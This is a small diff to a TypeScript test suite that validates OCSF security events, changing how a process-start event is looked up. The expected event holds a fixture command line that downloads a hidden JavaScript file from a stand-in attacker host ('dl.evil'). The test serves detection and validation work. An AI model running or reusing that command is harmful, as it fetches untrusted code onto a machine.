@@ -18,7 +18,7 @@ describe.skipIf(!hasOcsf)('OCSF events, validated against the schema', () => {
     events.filter((one) => one.class_uid === uid && (activity === undefined || one.activity_id === activity));
 
   it('tells of each program started and ended, with who started it', () => {
-    const started = of(1007, 1).find(({ process }) => JSON.stringify(process).includes('curl -o'));
+    const started = of(1007, 1).find(({ process }) => (process as { name?: string }).name === 'curl');
     expect(started).toMatchObject({
       process: { pid: 41, cmd_line: 'curl -o /tmp/.x.js http://dl.evil/x', name: 'curl' },
       actor: { process: { pid: 40 } },
